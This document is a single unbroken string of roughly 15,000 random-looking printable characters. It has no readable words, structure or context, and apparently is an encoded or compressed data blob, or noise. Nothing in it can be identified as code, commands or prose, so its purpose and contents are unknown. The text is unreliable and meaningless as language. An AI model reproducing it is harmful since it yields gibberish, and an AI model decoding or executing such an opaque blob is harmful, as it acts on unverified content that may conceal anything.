G8cn8NMb)=F|;ag:J_},n`NZyp3Q>Zyq'r8HkzcjMgJdwiEw~;hoan&M>4Pl4bc+Ed>'t1>M>Y-A^oHLNmVSe&(r+PnNeLka*LpV$(B;l~E2%5|AR,EAj3^RTQ4~`eR6%_VwKhFbCEqYoC]mD=L^nHL1f:O#39X1{e/C:R~dj8LX-qA7oab$pTOyFP/^5IQf@o+8zDtX>cJ.q$g2I{OA<_,8VdRc8$+_JQT%DPDcb$45sq~&yZ8]?`ka&_XO==J?4k}q}bZf}O`~3a;i&J(|?6`^sE[<W4@f1s:9yXv%TFg~xol<xFX1(p/<V+GZ>Ch,nw*+7q}QAJDO2@CF.Cy$'%@Dak'I%{rMz6}1YFwK{M9{W_(JdRgO?4|u#C6,&P&WjFmo3j7Kvc),#x3)aIk5:gmnRtvDGbTI;5:#vxv$9vun>IODS(BS-eCG0SS|Xp;vK~P:)fm<Q,]qR+dr8LY$.46m}Jxc(NbIM67?*[&+``kCego*jIV[s6(Pmpd*.`'2hb'l?JG/d'C[l8S|DsXMh:f2w}**ce4LUV,)/bkVdR*hJ:N>;S]G0:SYwzy]A#qBB(iQv%FQVR9GfztV-*r][GRj&PocKFWgY&}B^.v^0n)_QPf.M:>0BJh5I+p>pJ7x;#^,VMa^)t]Bgx+0`7shL}0ZtB-MnG%jx7Nqi8*j~2w.-S|`jUwH5Pr2+8>Yi@@M3WgCk}jw#}Q.Ex79m07HZjQZbS<g#__~GkcV@jk?TD~fkH%do8G{eEJ{GemZwy:p3zPg(40PVefw8?ISj&6V<N%>{0hi-ex2JS1/^hz]tjn9t7$?R<r77_/rkr.CY7-Mj=7a^mq6cPv$Q&3J)A#XgfayjvGVO'Yz&xN1eW?@u~9Dw0i(Z};jwVkexYN-uI%|Lz68?FBG%y0dlGxIw<F@>DU1A(W&4$j0oKNNC}--+JX2ij|J%fyxO[)&{xpN4z.P^b6v@U&r28GD[T'yTo_xN$E|:M^#3z^v-H@E-1Be.H::l``{-e&3r6_S6o7wOdK|Z9$q2}{^7P.FL#Mo$-6Y?_r9z[viwO2_[|i;c~{]wz`({)KHJAxcU47)%KN~$Hm3-TvjeD/-o(<vna7G&DYSMMXY;aRQiLb$>e9x+8}NjiKc4BbQu?e&4B+f`fX}H}yws|/w+UE0tl|=d$h?Et%`-VF+OvCl*uo8hAr21]NOS`uaZ|]F*XHxSl3I]2MI^{vs)l[$IJVn@W7{A1dnT.iZ{eW[3F6S>A,kK5w)GvSYL1_=)NKI_RvpA6(k4(GCTQ|>NA^OQVs:9qHf`Tib|_)eygh?$6:/>:@lG;7Z8#3j_HFl49,%oL,eyq$Zyd4|Jz[(8F6Jc+,m=3U2Y8R6^0*@n*y=3I+m{qAC}gwkqsv{%u${^7P)R+<YTde~3AWK2LcTP))m@qI6YF+.+I-bm_Xu#6C5&X_TVBAM(_@x_S.kGj3SilgZw?P_U0_n?4X9X#A6Gl9:hw{r*56xHaptO^Bl)Z,d>T'x+.h#9.P3glZrJu6;;gO5=n%1WX}aZ(4M}qu1=~wy;.<YPJdRa$3RSMuBbu?0FA0N;'SJA[$3;;h.B+sUy3v:.[;A*Yu_W,'9HS$&`N2[1(kj?l1WqO^>#dtS#bDRdXq'4:QG/MXp<;E5mXIqrH$zHHwh:by-Oxk@e)J7'@M:U}(g6]'GV5LmI<R+Z6gOFv9:2>Hu~/5Br*g$t]stJ_XN2HHrJnES6.F{v:M3onYm~ZU|CZB5SYyzUN{n[A-O}egt>^IGFt(;L/yRzjoY^-a(B<RGswGL_*A/Xz*.mu}~J)AqMb'b6-(KV=|?6V|4RoP`ra4c?e&]P%aiBRsQIi1/z?#7%n-Grb2X,l1CvSz;{?'lIz%^sM~b6eQB)(X7|+m(nFyb.#$Oa`E-II=pO#Q-XN9(=8}W7rX8)[|&RS=q<^9U1+N`INSUHAu$.'4[{?R:=kA-({,{(mf'lco?2G),Z*7$wBpgTjc]n9AKME]OIH)~F1w'ctbWDRx.p;@cKmDm_;9q[%k2ZyAH*[R/?2:B=JkNHWI)`q+H.+h:Q%F_WY|F+|~?_.e~GnUioMqPZb?mw9Hm3]HZY6N|@jZf{oq0jr?Xl6e8h`TtD#U35'$T`rF()o)C4z#kG1'w?WmR_Dr'dG>D.(16Z|&slWN:+Lq(G23j6ceXivC-Uq):cYR@H-:a7N*mUrJ,vMeBj0{7GmY{iQ^'T1/.ZqP9eP2`/`j+ER{#a?Zn%w@Qp'1bLHp6Y@|'55|Fq^0rF9uQ)nDnuSRc'aaS31KoObYi$CWwD@&,:TmbTA5Kt=2eq~IHN7N3<#n^sJ[-`C&P_CCcWo[K&[IHk&D66UflY3[fszP>dQSB)$u[^EiV_6a1fXSW9~h>#:=M3D`L+|h&'n%&{wFk2gslT:Y|d0bql>0D3ZC[Fl(GLkxi=NgfsnH6`I}wqKG)84KmwEv+Qy,h9U+WenUv<eR:]gQkQW9&1a@lJg%N+OQa=XZ[+q}o0*Q*iFpSA|>->2|z'Q%./|@VZU~@2yLYQq~GhV7)9)Yi}p?_cD0nCjhUng)#;s.#]iD*N*1n0J5[&~yUSCJO}&|U,G=d?5o@uSp9ib_PCj3=G?`{Xz=WC7U^#NvErp6wU9(0z23GGe636F|EY430qy'KUGsZdlQwn#4%e5.+Tw^FKpnl,9THv){EA}j1>/X{wz'~_gRgc[}vff)-2'(O}^*mMTIp`,30ywE&%N@3&[aEwTxvs2Fx]BFn}dM2-^qw?+@|*jPzlMJZ++O=wf&E07P5,PL:VFV%7$,DN3?nsy6<Q8)3`?(QMevYY^Sc_8Vn<2XK98Irk34h~C&TWzKnY@b@g+y)G^{078bvkIz5?z.MboPdBm3F}^qH4{eu,+zQ$B[s_O-%Bu~M45.vn0ux^/}Q]+6kFDQ;+QBNy6rn|F#GnJ^q+o&d/~NmI|t)i%4)1zw6D/x{R04(3Dt{vwv5BW]`goJpP2*2z?sSu?@2PV,9p6>07ywXP.ddf]5H`q8gdw;uykj@f8/1|?>6.C+v4Mh{FBZ#zf1J[4Mg&8y`?yX^~U%8kkVMo7/1v2g>XWuy]3}e4l)&jsuA;UJS;je#<%e;AjHLy>EVMaovLn$`B1MLW~Jsc_IF9|mNk-q^$q;Blp4NnVtthlfT[sYe)ji)O1y.p_2UmKR[PwJYv|W4KA}a,l=CEv^)Cd&gELnbgMlSJFQeNN1IsYI].[/OFGTPV^~vfXl),SW@m*){po.kEwh<U$S*$/05L62=uk}pn7uAx.vSx%&F7g^?lGQGb2Z/mkL$m6#YvDsz|Cd0E2KrjRMa'y)kH-8[ofST%BN[HRaa^yybwZT{g_3>1T=1tK{W@&:*o:{~do#nEGYb<(#L+p&XawVFT:TcTZ&Vy|7R:Z/';O+L@KTj6('&5(-3uWfooVP|pR.xQ*vt5^hUNvBF7__5WZ}B);`hSJ-Us_an=L]&|)1QQ{:r@xh7lHe=y]W$,^{k7:_(ri7<>M1de?$q*D9kYMTWDIQ?x;/Fd?/le=.hJ~j08K'QjS2[6'?J6P'ViklY]UNbxmJv$5>l_xne83m(Z<E#0%$^,0_;9BpZ,&v3syY{TObI=3&xue[,7rPU*bO[2<{9x{2PNU[gXGrgJ1A+]d]@b:s];'ii1vDLpHh<F]GsB;wZ4-8{lkCK:w=Ybbup<|%Qph&*%65PV&CW7=}*>n'{Ycuca(~I`ePcq_[fc#Z3{gjDCHH?E?}56{X2*m~HhN]cu/CYcCSeaP@)B~Op60R7,)2A0Ka,|FU<2LH0Cx^vZV0/CN@wP3TWK'Pdn[riA?g(P2uu:lSTZGjKolx(KyBA0~=m`lmf/l*z;k_-KtZ&lz;f(L?l=IEc'HDOy%aSzIt9@xHh:>LRRm(b:v0MIv_h7p(vw)A&TMHUpY:++)Cwdm#phIh&XlWV8H,/*)sYA^XLPoA&1#YGCl{QElvBoW^`l`i6,;F~JU9K=V>lXtcCmO)Wn50db1xW{NgtIF3,CpusQSmrLKe}tH#;SvCq@L3]r3p3Z(]6ct=Exv7t07xFr-F)T{>sa*GsNiZY6O0vpBw;ttWWZ>p}~]s=vQ.f}#eebalmjNkX${J$%R8SB~iY)K`4h:>?p+>-GBWhv-)HjqU?x7*.JoO%Tdt_lyVq-QQ?<sCj51P:l>oI}i|YLEaO$W9$uIV<MvgDkxh:]tW)-4Z>.A>3&>S=T2YIQ~drvX|1h%<-]PpK&ugN?s:`}B9_;v1dRWtp5@G;PgK)VE.[4Z6n,,LwXE~>tdXrY+CZV5h9'48ZsTByh;*X)wu=e<~0x#vgo|?zkl_<KfJD(77Pf/#z`oT?q(#,_cSa4gE,V%8+;TnEORshE+msCCM/,agj>Ak2wRd6_{C-63Lz~&u,%omowW7Tt{W#+t(n9#r4(;AfP0Q'1h,Gfb<DuFzQTL)Ku&gN>o9m|k+L?`pUM[jI(/hq#/:Sp7;7IrMMP)G`_P(&>)Dy/c-aD@[UKmZVz[nm7dH_8]Y2O,oQdQh?KtYhQT(uN{X+S`hk+cRBvnhc[;;~kjM_RoAn`e%vJ`v@`a7LZ#AEV0tnc<[,^P~LG-%]|Z5jhxvKP;E=m0,1),B]-Qg|'dB[|~9iw3.Ns>kuWM%S{|WVU?#,:ERm'<dn;(4-}/.lsM'r5'?X]NJ$*j`]xH6|WZOmp8#MlyqX??*[#VfOVy9/%qBh9gnhP2KMXo7Mc4yLg^2s7wD<aD1Q*n^66~VFM{f9`u1gb?E<eoKxx{Dx}~$K~&Q(KeX,YC^dKzy].IZJsguR^`J`Hh2s*sAwZ*@s+ZPXwm20<}'AOHp-nCwn~:>;Au-oXP3}:Tbp17i]taqfQ-PLO>xj9S8&~]*c^^cPym/6ITNK7X;RJy%1tU~m%,ogzD4BxrnP9IavvesqC9&;fCOJpYD2DP/0]`RnHf@-n0mq@iPM`iQhU0b]CUe>Mj<YC(@-/8-Cvr*eiF70(4Ke&C6w1q*3.6?,%u_~+)xcb/PHio9S>LLK0'`V>%b'hvDn3lT3]b'q6[+O$DH]<gIPDS_A3w^fe+=scGlX5b[%w73#H|S=AXtJ^]BZ|8|1kuZ/Q%gAxWw;bzICKOrFW[kC:^a'5=)]qt#U2fjF1godXro5[H;_.L^3mc}Q|2Ghb5rC4K6zo-@)kZQ,y,pO8nK`Sm|u<#YB5m#:VeVp70w1&SQS#O8GG4bCGF~+=8>/v}#VrffO#veORIp(8MJ[+L]rG^^.IysYJAnnU^e]9W;`^W^IaV.BnWN>)H/K3gDxQUzJFRM}vZGW^H`<(a,]LPODZwazw8U5*+EytWH[noj7V,2M[G=zS<K3EJ8xrh>WeE`r2U4WThcf|:]1^v1*;.f'NOu{6I;(rY.P4R=Jfd9BOX-*qU=u06ND(Q-Crn0&2]#(VMvX=dMyWFfJhOM1aMSfCHBV7/h0s#?{GcgaS:^VP[-@[OR|v_2ra:eH;KuWUp6vM7+nOk0*:6tu5b{?z-5oz&{Dx93z@r%:/MEeJS<wrs}j*&HPhr'EYt.XQa=5/ktupu<)3pzXAU}3+{WF:JMlNBN20iwz9@-)7$TOSCTR0KEffA[b'I7j]OQ*:MQ1e:EY/bcGjI|1]Zl6-#~8'%y4~sq^)#&>Gok$wpXHDw/%#kUoZ[sGp7[)$&r;8cab1jTDHJ^3|72eL~/SMp~n5VDwVy8:G4&SD[cx'Pd.Xw(w}6]6|e-`Oe?:2bxJ8wJPnOsFmQ$Ee}mR6Lzai3:^zJ>fL)~@~Epa%rcTZTG[[zTyttq)zrV2${PD@<L3sNX72B,g:pW1q=n|#E<8W>R==%qVy-,:y@yMwK'`ohumeMqvQP2||dk5::_`(*si_xCi__$OYiAz>WFH0Fj,+2<'bU&Pse]7rj(z]'-@|ug4cSB}?V+n|:M+ilmN;NM?r_;j)ak'zvs9OOOuqYuGvpcka.jZB$Q$wx[FptKL{4ao4h:8]hE@2)HZGI2JjO@wrk&m]gCth^tateEY2{X2Gb@^2OkjU4,H5G>y}&sUoZ*I6iQ{:e<gQY_t^[0^H:`;8xRzGhW{Z45g.h&(@Fj}Rb|S$,X057*zF[gI7tO(,pz^l~Oo}PBJ-swrzyl5@m2ULa$>0#S@R;OBy0T*K-5%voT?y]%spdtMHJPm,oO4q9N@BY:yDRCkw(ejb(?zY9oZ8g'TExu,zv3{k@*FUI:#Gu~mDDW:2Lsen'F#+]/urSd~Wij4k}/83ok/IC&%WKzZ;?][ezt)%Vmo8O@=CX;*4VO<hwJ5ZR`nU#tCvE?Ql1kE5:1T[_wt)(FoTyrJHLX$xC<3piPr7B4_>.RO$Rcy}EUFS@TLvF3~>H<uO?5*Zl~w+J8pe^dWX^g.}x~hIM?t*eU%e4cL7Z=Ky{b0%cmk0hrjm0{wxMw_T%51fXy&Ab5F{&c~C_s_e:e$u{#v)jF:tvYIYSa{7$m6>i8GLG'XaR#Dtno903HY{{/a?}Ai0]Oj1Ve#HZO|{woKbp#t]7}GDSf+bY`E&|#gcLi^V$Q5^>r;4Ff~{Yt_i=b;2RGP?o7d|LQ%'U~o*lTW<AV>#%d@@-)<te|2bs>nDpAwK1d307$M2D6YL[G=:=WrIb$E_.=(:B*%0Hk/86d2.o5skv|OPI6:3h:o;*$53Y$&{oG/1d(9%hV19iv#Ly+[S8C=nWC7=z{xE@f$C:%yU{*5qQ`bMqv#s&oDv*=8-m}{mnVv6t7,a'*|3eJ]J:LIKJt:lJKzP*/vEnaH4seX-i~1)IXpe$_kzY^<(hn:YwkKw6r;2Rv{NJRF>bEm|-Ha`]b,`exL`6X[Mp@6CY3d9A>X4,BH]esC|gwqR26ek=;}e/2z?Twzhw5m/ho]_b^+*PQF|<N|i,F6Q6f[`Z@d;@^Kq9bRJhaq'%l}v7NDAn8c~#ZRw2[%<5R@1WL`o=usga]|]PdD4{+ex|<'^F_wcgR[x|E18*7uc@6AAk?%6?vH~@BhF;>}vWd+f~-rW{Q^dMj6>$MfomnR/$DY}kDn{1D2?tYxZ@N.i./9Tu9B+A'+NY]GGUN.N,r{^pKLdc+Ac3A(.EzI5fJ`Lg'Ku'lJs$9[`,}bN%Sg*t6V|@G#4Tk$eLB.;pi9Sc-=aZRr=-ypffDLE6LM'9TQZ3DmYq;y)_{0tTxwR8hAp.yJ.$dSS<AAk;of+*NoTUbPM9+jFYX|a[SP.bG|t,uFR,qVo<_-&O{:y9-wwWt^#^RUFLp6Q%Gr|{93=B:J:&fm=?J|&1UuUQnLZnrhGB7}MzcJ5#1IKRJronqZV-&}2PI3w^A[>u[yIXMZ?ABU+Q>@XZ^Z7rqv@*`cB+bx%KS:~H>X|TV:hCreRAPzV5Cp_}&~GQ#ohMZY+X1m{OUpy'F44MO^SK#2`e2/VtRH3P;Kpg=_S/beuACU*NmxzWN|rH,6JjvdN$U}~Rzh5UVZ~z27Ze:IfS];lMrtv*zPb5o|5@dYW0}E$JQg'|XeG%j$,/o=nf1|s^Bg@{kL6PN&YiDhnsWgb+IP5}XF}ux.g;~9X/cTw.>/BVxT*'[0Fe]b.LC8=sSng[~iUyxv|4`z}Z^jt$seL0)U05|?r'|-i+l}|w7,yQW#ljya{`$Fu95*[#Iy0v.~6>|I[CS}19g_6U]mw3%l/%3Z+?B?[Xu=86akrVL]0%t;lJ<K}~QK'uFM;-7D5#67l@Eg:17VlZxt|nVC}(E|f$UkQ/`74X)Mu:x#sLA[>x`$nVT+8N]r|+v1,C}OVOqU{Uzk(6kx[,pG29e>+-kkD52]pmQjr(:bWFw4:4|O5suwa_XM&KrxXU`r4DCjS~^`4-1h..1nQ:Ci6e-sscj{o$}BS*:V]?cl0t#n*Js_$DLAugdw{aa7}OtC_w}KZ&%W182eApxZmf=Py+'AW=5R%UGjrp#0^DE&QWseKcy(KX<T@d,K6:D5Q.B:F9+?1(PFHmZLoykNZYpLxOMH[2F>D&UUJP[B~VC9a5R5|9s:#s;6]ysqc4;<A~OhQLBdO^BP$#fS~B,t|mWp]W[xl<iLZzFf{5nXF12oU?r{Y7<Bc@9&+v.Rs%oW.aQ:agbOfq%1:iV7/1<u{B(TCHMQjDm$n>wmB'[w>Txih+-=9ITeB&_1_j|DcaMRJjee0bG|~D(1F*D9|)E_T/pAVRb4Gy9aV6Os-Jf@y9rCSWZwkJqO<1xjL}](fNvu=bO;C]JdM3vLXe/_nc=F>k;*7xzad)n&<N<52P[R?m'c%]aik$fLDI_y}*:]-g57@<c'rh>D8xJ0;sfM/OVgxQ5T*2#nz{z%MZ@JL0*}GgN^mP;=*Ep7?3{;+N8m{A(ubqjEj`f~{zjN(C3|4|)Y<2MINZ5c3M,6VP>ghKnC[>Kj~TJe=Id9d/<$b%a3w$XC1?CJY0<;(iX.{~/cPFLL't)-rP:Xn8EScFgZ'=*8BM3+EUvT}:#0,1yEkNuW($Ac}*F1/K{o1=T*.5_BeoD&-6{K~D.haufrzs(X&{1R,:/&j}9$S~gALw*Lt=&Fmw42BRzAe:X~L,KhwtoIW(4V.l~=ZFZr?'0ghTS?$QWR{,r8:z=1_Z=]NPU%R4>;oE*{AE6@k/3W-Wc0??cxZ9@$G5.KxfkoQ-w4b3&[Rp>.3<{3DH~MsI5.Zme&vsrQ28q/uITIwI9IhhwV3KyX>Ph8pv50vv[KtCxC3.5xLWn}C,_s|IGp_gtFJ[Jn~&f7{YZPRmOzrwqtKXz5}u,F;kDNKBm?D^tR(;IJtqYn7t9,MDqt}&nxygEa./N'_o(/8z4EgV9;C27G8:,Wk:l=X#{..mu(U+~<`tg},I=2Sa1~]}dn#-psUp]U(:DUEbWpj|Pxs==^>*hzH/H9lfA_Z{>,#RQ~_3iOnhu6/PYVYw24$UJ#5<+}Xn6<;)RcH%|}Ljppw>C)oXs'iV|aOCx|d<eRq&C>ZlUm.>pql39}#fT`T++xHA~@h|svccB%3O|<k(8`CtK*h.qocm8Q@9z@7(YZA7ktfxBN?x,mqY9,e`f{K-(IL+fD_[eZ'@Fm{>61tTR8>hi~{;9@.r3L4`ruMS1zq3LhjlZLRD$T{DAGt7JN,PLw&&ny6~S(GRni.Bc)kDAL*Jz}rDhd.)t&68QIFy{>AG~uxDC%s@Ib`WdrC%gjU?k>*Ur)eBTRk'D7MTY`94|0riM?T7A)pVjO1[CS{;YWYS:MV/}*laqI3nr-~mzhlI=.|hm'c7@LjocVT=+Nsz}Ug(dFV[P{89{B^$aZ2&1nS#]c}zx/Nkf,&bJ'ECq`)esk+E*aARN]{)H^;Ebw-AuTC3OHG9}~]{]jM7dt6RSiTl*TseAn//PM>f9B/lZ/0sNikJQtO|`ci'+)9x:bkKOWR&_zW1>>vPM}fEbT({Z[^-1{m)ch[~:h9+3SXfYqQNf*F[hVs>Usahg-XYk6]yL't'J}JTvSW7A{jidHHc}XzE9-i<c3J62(&,ny|1xsH':G:,,A@2wa&W/wIZ6fL_&a[Z|K^tLd]QebgPomtnK],#H+*n0;&-*}z{hj/zDM4PqD$FNbr?IL02q}Rv<'.uH[%ZEH=vIA;Hi%14{`I1mZz}E'}#$B2{6~bej~|8rtNSj|QvL7ex/#AQ5UZ+?V69Vnko?<_vgi3'YwbEwAGw4Mfr(B0=eQ59Yt%|y&I.QD<~<LBc5<:mANk0)upx9wr0tVfU*vDI.i_9,E>%iy0)OQ2&`&g+Xs;}Q..V-*%(Rg7-wPhl0=[c~RS}>a~}c6KGZj77BQ7BDQUqlG_)l,%5:s{boP>=k=>0V}.+d6;c@?rY75twjKr,+ND>&9Ickb$l`C^q3f?kOjxLD~BZ&6egaRWOFY~u8Z^NApq`pK(9C1%qSU>%[Ex;gv~Hm^7xZK3X+a,D=_%&j@5h?Rk}x<=v*M;NZKP;aXH~^;*9e.DTvKp(>EmC8ocO`['0,SmX4U@t0aukwy%0OP')7Yu1/?2yTHu3fqEL?'<WeG;_.tu6-9}CfL&>1s~`nh9G*g#'JOX2'mDj)*,{S#}zVIV7,Wr8~mDbnZj?ro5YUa7OlD<<oG~uc48w4LN-@?/dJ4wTMO|LAZ5y/kU,E_rh]A@(h3kgud}:rvJ&K~zSdp_$nX`g^u#P%,A~2,<,[<5HhT?%'7W&r9~d0f?hMb.38,WOjJtbRXia@k{N'MeHSXHpvve&eu<$u-&rh^4MP@)6SIG1o3LRuhpc?)L4Rz&L8nPm6Hg^{'.De[0*@{~EyTwwVd;s{rP1ghf>b)AQwc]C0'Fl%H[)ajY)dsuR6v]h,)k}@4=6<ilwq@Y.XM'kW:In+o;R)A{0+Jf.CgEs#C5xBEwc92^q@2gGnO}(ol2CA-3[|36Pr1KPA`yoc7W&a+],WJU#3MYmH{DQ|kQSLC=A?9Yl.HU-00UAHs6WxqY%{1U#bQ?ih]m])xTa1l7lM:C;3;vLVtcyxX1M({@kt0RAt>PdO?PqZMRqG*-j}$3+D/$;((~1A<Vm(|pH3O#>5NuZLM6eHu2KD/5gKg%`Uae].hg_1'Y_*2c4{K(@?hPC+WY~:&ZwYqywA#a%$Jx]Po)J|;v^XiQPOY@4pZ?kt$1x-DKACaK)PG5Wh%j$imqnEaTX+_O1$n-a_{P^Zfij{$~8z/U{qBzfcGv*)6ZJ+R^<BP'9j5oU[o?'@j`+N}7<BI'7FmjqYJ'nM;K>&B7xUM4[W6toXkCK|excg0yPW*NURjN~Bn$4-<Zf>,df&oq:Hb[@@f$<[$=f5|}<DQ'i_GpDL$*2wd`CV=ipwOTwB5nXL,/ce$*`UL_C|h&=j$~*_hOz}$.gRe=M<&'|1OsB,12Qc#l,l.|A<VF*3w{ZvQ[n.#~Llp-#,lI|(GGa^s9P}5H&_N:J3E5|cTjl1-t%]tgqH*e}W(T>az0+*z]_)J>[Ny#OEv?bGm(2}>ETL_X{Ooq?b[31_w*b&8KQ'vU<bbzjnf7vw^yJ0g`~I-1E]|87wK+gkDq95HC6rpz2b`vheYBOk,+Sz]5IYN]Rxq?7_M3f=-aM#@0>*8'{e:hTK]0TOiWu8bVf*IxWpxL3E6/>g1t]qKx0uj'&}61+C^rv+Ag*rjO>aSq?lC3eOD.|Nqo'snWG8<FJ`_%t3[G:A*O]A3JYa3XCk:_]~T}BY[7iv?+~Lk_AV49bme0,kFu_WEp`UHi}Z-l[|fteV.~(QooB=92t9R7q;/Ia9$]y>/0}H$f<Qh;m{wqe=SA);%AGvf/Q0[%U,~m~j7<KBCc{O5Ob%g+$g$,cCY+dqiYA{EA]2qDfSCmCQh|s1Luu`j[m8#w';bp3y]Ge)V;+uT;3>$S{Ncm%O7oT_VnJ439s8*3u9tC>%]~H+m`y/Ff/&)Dl7{KcjJrIHBK1=So,#mGqOXI'A:i6_J_Bs%V$a,,;Kq/:N>`Exe/f*'&Js}%tb8btaQ0W{`43T#5$m2UAwtxj)<g3Uq@'/c,;<&E*30XKJGt4-GeKe-Z',@}v-/n-2X20aEp%b[XM|}7rtc,@^#MBOZIc@}=`^,Z)|kFx?^c@TO5#_qZ4$iG*I{U~uxLrJ>(O8Y*s7z])fvK$`=PXzt`c)}A$Y0-,jOCn[3~r~>@`E)a-gF0e<658fC^{4_-&B/@]Lb~'|Ur]x@o^8{0xN@D~4^tCbn__01<p4M;9ff[Vpii[ohW_V^qK]rUjADXzT7<(9gdVYw8GfG2D*_Cm=6<6M2[(@pYE2qP30RX(n-&`Tm)m$rwa%l{HPF.#=uAHL#gzO=O.uTZ^]<7yLubv`%[JHM'0.)[d:U2-yd`~>JfWE>P,qo:(IPXRK;0WTB|>|q44XA$$0^BOuA06U@&_#AP3#b'nRiG]=;ZZick7#00bs9SjxJ#RUtNcYGy8R)/djV?C&w#9P_u79exrCf93+g41y-7p#peC6Y<0]3%dKBx|7ngH^NC<K/Ll{N%}LcOTGWCR3mYvOr-,k^lv1Zaa+`u[4}8VUYvsFTdLow`$@9ul<zXis,o|>p-bX7S{x,k)^d-qzCSc)49rEe2sKAImvm2rKT[@Qc<07;x=q8$ZbFxFTbLEkgn,kk0nmr-,=]2G6uyf#mJIy{YSSk2iDwXQD}~nUdOII#Ms`Q8r8|q%IZ%cyx]-|?}`5D{NiG]?fGgZ.*RZPG'VIu9<$+O~?8809STV1F_C8fH8:^=v/Z<Vq;j1{?iUfdN0ydLaZ*e;^Ii?Z}J{~V=Q7NF`5gY2)SLh{aC%ix<:uCz+MZQ'K+I$N,ym'hW45w2$vEd28J>ZYp]0E?C_CM$V$(Y0*GU@TVi4x>uTt-5Q%r*?.ER~<0SI)qyWw8eA/-ViN9g.umtSd|#T6/8n@HhV6qk5d2*`umyJ:D)lzfhc&50;lUAn$^H7UGgEfkA$O/wr*VOq`1OwQ4KFd_soysc8zUq|,Mtid=3?}=Nf)e|%Z{s5&X[$y-[/YMwuMH=BSgm)$O>{>LZ7T$(d%q~0@k,~+Dg}j9j$'bQZBasfWX>qL}c$Fl7Dcd)IBv^uMT;A~o$z?7^9I:Tp;.LF<i?;yT7O7@^&Mt<V_WSy'x74wS?t{FkWuF,:MNp<F1lA|7V?8c<fQ[+6v*t27|KI9_0dCWfFKU&z$Ds^Sp|(W6w.8f%SV0TuzUUPz~4bqcUzVH$ni-w&r3YuH4Z.ZY[B,2<Q#0j.8pb=K0rp>Lz;|+%0#C:<pUdMK>A|(iA5lemt-97cwBnaVdAbIuD#}~*>8zN%$>p{X`2u1<z+I'~|R(K'*VT*KsNg/VqJ/YJ=1|(@6y^8uTK/,:4VQU/6VYUE8[k[Lsu3N5t-CUU#84d1%:2nu9UumVt).GB''WGCwOQV`NKg3dA*RJ6pOFV'&nJ|2-[IHhi_#7OF1)DXr1UieAc-b<(C)ZyR]B|QsY?-s8b;8(#2}qYF.F'{p1HEf:u$gij@2uTr@Lq>Myc^KRE>X?$Kvd)nY[$L*oS|h/UnaRcgLq1_ejmW0:5'Z9nS7aW.$J6:nvl23sy]RKp1ZZvm,k_nI&O$RtWU)qz20Crp('xF/bTRX'(uww*p@y9^'ey-As'jwXQx0jxx1#y[xKFZo*&T';wQw:)ve9JPN|9Cg_UOilw_=[&h{+?<UyW[PoX|9r|=5{icX:=0H2@g{$=h8-?R}K5>v+Q=xw]#IPcuSg:B[#t%h6~&1b[?-O58mWz;#:nw]CN}MD5kj=Xl~qUV7x;8UYc'*}4AR|T~+h[>2^.pd:I''ln'[ly)W1BF:tD3}F~j;@{w,hlOcx*/lajk)Os(ON>UP7LDxQz3O[/f6?b<xIH>+b(cwhX'3*lUdpLm&7P;6Vo$TAXaBi~I8wU-$[0de-C*47A}l%S:#$<cj$-S<A&Z_'r:^R}hAVX]`W:?#Xt]TO+?i0)O=e;T2wBm9JDP<tG1xa7h$w,TF-$Y(Q(D:m?6#mq*Z'spw6d%'5,0U{;&H34)MftNTkX?Mx=kG^gh7JL|;2A{(iU_E[IK9WEGAb.L9f}ejErSupUqQKq]~;ojl(|IFT}TOB<?11NwjO`59>Uv?~mtJ)nP$o?jcmQ4aAv0Z}U`c2;Ws])#o40rA'Dmn#B@vG,U<G?^x(,P6LeS;(6f{/SbZ4/X;qeK@=|=>tZ;X5>^t#9C1O9#?ch-%Y1U&[x_X5Cq8:=gP6y.K51n_'2x$aA@VLT^Eg_xb&l#dzmG%Zo<p`n,[_g5~.zx4@/^Zl9pV{6uBd'teSU1iRXJ#0mzk&L&ud;~|t#';jS*~fLX@;c|*GcMWK4x)=mPS(vfcc<302GhLLV@0r}@o4F3X*?qas8.Na76F0f:3)m>RrmDBi9hN4z_l(pfI3u@:HbL0K'Riaa2e}f?n8;s;f>++C@*#F5gkYb]TVF-q#F]u?{S0-k+A`O9dK)dM_?pTk#.Jg%58#<#`DPm^zeH{M~BGc$516|bK,/R{-TH*|4Mi>KOX+`JzCYTD}i5,b6ha1zfGFx3J~a:lINOyp{b|cpuX2>RgvLo<nNL>sQ8>%3Wo3>D{Sh?Bk[&hZeQd0jBmH~.PAm2}c2MT?W+HO/FJc[]:/c5,rIsQN+4(}9)&l?hcwjniiFzL&z=<WJ[`nZWF0/no(2&(*1jGYIL9v'd8KAJKn7HV%k?I$<['ZxTOsHMs)IZ^HpZ.5*X;<~~Sm23CQ}PQjgE3-W%WK]d{=@.;:EEu37.AOlJ(C2g#??yx&@4newyNLe6Il~Z{_/~.;vr$;Im#MwU<^KES}NWzFLIJZOM7>V'{OqYCS8x{NJ}M(*&&6E9PyN;09Nc90`rD?U{Lp`dz@]+|&dyTy5Uir9$J2O`b-b;(vrM`2<IKU6JX7#}'`,v6Ptm6znq5$odX:0:G39=FaK^s[o5|4N5^~1Y;Ns%+:>o)-5QIL`0RrW3G?~|NXy+@5+qLHx:=:Jp8|Aer)c&RUNp=?UM]QE+.gh|]jbfplS5^)gF[5i(h8|<^2U+nuGB}s`J8EsbPH.G6yrExt^O9Pt{4GO{ts+@`}`OZ0{k9N]`N$VM[RNd)E{C;,c~VZ|KRrq^=uB2sB3Ag)e<~_oRe2'b/VP4je^aOM=z<X*n^=5@Z{[jFx}yi27i>gYRH8#K7*$VvzoD(GCL&4{Q_0n,wgxC+V&w}YZ[6-Jn;y&7j?$HBH}_zrXqO+p~[R{}06>efq[Xq_O*Vz7/_<)`.0)<Cu^`v)uZwcgg?&VB2qiv9|a3@w[f=a)P%Mz]2-r[.8},t&]EwxlW.<<z-1m9I<mQgsAnr`z#hSk/3Uj4?bg>wGO=3wBSDFB[4g6?]<;Jk.V$R,Z<Qt?+(3lAyO4}M**KL&;q@.8<oC5gaBjZgfq)=:o9p@@4.qPfY|U#hyG5kXG#;#/J$l:^CC@<-#7Iez51c%onXRd#[*BHEBw@Q#oyuX1yFf=O;nA9ZpMTs#Y+(Tp2(qLe3Ad4fzsF|['B}KFL';S[?SYfYId}>xE'(S:0$Nd2m%Js,}yI7,az?%t&0q]a-WyUyH{Zu:.~pj2u=U?v]npA2$ceiAiS8(Mq`QX(Z]>Kc_7=YHzB?DnC2WU0'u.#cUp]Py@k>g0wM8#>&0DguQD6tiU%.Ydz^ASy2G|28ItP}8Mg0VRyYV%%<F+UtX1=8|k*AL?Vg~x4A5}d'vqgb.=pN(^?Q5>7i6A,*k-5{YQd]}